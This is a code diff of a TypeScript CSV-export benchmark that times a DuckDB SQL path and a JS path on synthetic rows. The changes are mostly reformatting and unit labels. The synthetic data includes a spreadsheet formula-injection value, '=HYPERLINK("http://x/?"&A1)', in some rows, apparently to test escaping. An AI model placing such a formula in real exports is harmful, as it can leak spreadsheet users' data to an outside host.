@@ -28,12 +28,19 @@ export async function benchCsv(records: number, log: (line: string) => void): Pr
     peak = Math.max(peak, process.memoryUsage.rss());
   }, 100);
   // The SQL path, as the records and search exporters take it: DuckDB writes, we hash and rename.
-  const rowsSql = (n: number): string => `SELECT 'd-' || lpad(i::VARCHAR, 10, '0') AS "decisionId", md5(i::VARCHAR) AS "traceId",
+  const rowsSql = (
+    n: number,
+  ): string => `SELECT 'd-' || lpad(i::VARCHAR, 10, '0') AS "decisionId", md5(i::VARCHAR) AS "traceId",
       TIMESTAMPTZ '2026-03-01 00:00:00+00' + to_seconds(i) AS "at", 'model-' || (i % 7) AS "modelId",
       CASE WHEN i % 1000 = 0 THEN '=HYPERLINK("http://x/?"&A1)' WHEN i % 3 = 0 THEN 'decline' ELSE 'approve' END AS "prediction",
       (i % 997) / 997.0 AS "confidence", i % 5 = 0 AS "humanReviewed", 'reviews/' || (i // 100000) || '.jsonl' AS "sourceFile", i + 1 AS "line"
     FROM range(${n}) t(i)`;
-  const synthetic: Exporter = { name: 'bench', description: 'synthetic decision-like rows', params: [], open: async () => ({ sql: rowsSql(records), params: {} }) };
+  const synthetic: Exporter = {
+    name: 'bench',
+    description: 'synthetic decision-like rows',
+    params: [],
+    open: async () => ({ sql: rowsSql(records), params: {} }),
+  };
   // The JS path (rows into JS, CsvWriter), as the timeline, anomaly and aggregate exporters take it, on a tenth of the rows.
   const jsRows = Math.max(1, Math.floor(records / 10));
   const syntheticJs: Exporter = {
@@ -61,7 +68,9 @@ export async function benchCsv(records: number, log: (line: string) => void): Pr
     const rssAfter = process.memoryUsage.rss();
     peak = Math.max(peak, rssAfter);
     const mb = statSync(out).size / 1e6;
-    log(`SQL path: ${res.sidecar.rows} rows, ${mb.toFixed(0)} MB in ${seconds.toFixed(1)} s: ${Math.round(res.sidecar.rows / seconds)} rows/s, ${(mb / seconds).toFixed(0)} MB/s; RSS ${(rssBefore / 1e6).toFixed(0)} MB before, ${(rssAfter / 1e6).toFixed(0)} MB after, peak ${(peak / 1e6).toFixed(0)} MB`);
+    log(
+      `SQL path: ${res.sidecar.rows} rows, ${mb.toFixed(0)} MB in ${seconds.toFixed(1)} s: ${Math.round(res.sidecar.rows / seconds)} rows/s, ${(mb / seconds).toFixed(0)} MB/s; RSS ${(rssBefore / 1e6).toFixed(0)} MB before, ${(rssAfter / 1e6).toFixed(0)} MB after, peak ${(peak / 1e6).toFixed(0)} MB`,
+    );
     rmSync(out, { force: true });
     started = performance.now();
     const js = await exportCsv(syntheticJs, ctx, {}, out);
@@ -69,13 +78,15 @@ export async function benchCsv(records: number, log: (line: string) => void): Pr
     const rssEnd = process.memoryUsage.rss();
     const growth = (rssEnd - (rssAt10 ?? rssEnd)) / 1e6;
     clearInterval(sampler);
-    log(`JS path: ${js.sidecar.rows} rows in ${jsSeconds.toFixed(1)} s: ${Math.round(js.sidecar.rows / jsSeconds)} rows/s; RSS after 10% of its rows ${((rssAt10 ?? 0) / 1e6).toFixed(0)} MB, at the end ${(rssEnd / 1e6).toFixed(0)} MB (growth ${growth.toFixed(0)} MB)`);
+    log(
+      `JS path: ${js.sidecar.rows} rows in ${jsSeconds.toFixed(1)} s: ${Math.round(js.sidecar.rows / jsSeconds)} rows/s; RSS after 10% of its rows ${((rssAt10 ?? 0) / 1e6).toFixed(0)} MB, at the end ${(rssEnd / 1e6).toFixed(0)} MB (growth ${growth.toFixed(0)} MB)`,
+    );
     return [
-      { name: 'csv.rows_per_s', value: Math.round(res.sidecar.rows / seconds), unit: 'rows/s' },
+      { name: 'csv.rows_per_s', value: Math.round(res.sidecar.rows / seconds), unit: 'records/s' },
       { name: 'csv.mb_per_s', value: Math.round(mb / seconds), unit: 'MB/s' },
       { name: 'csv.rows', value: res.sidecar.rows, unit: 'rows' },
       { name: 'csv.rss_growth_mb', value: Math.round((rssAfter - rssBefore) / 1e6), unit: 'MB' },
-      { name: 'csv.js_rows_per_s', value: Math.round(js.sidecar.rows / jsSeconds), unit: 'rows/s' },
+      { name: 'csv.js_rows_per_s', value: Math.round(js.sidecar.rows / jsSeconds), unit: 'records/s' },
       { name: 'csv.js_rss_growth_mb', value: Math.round(growth), unit: 'MB' },
       { name: 'csv.peak_rss_mb', value: Math.round(peak / 1e6), unit: 'MB' },
     ];
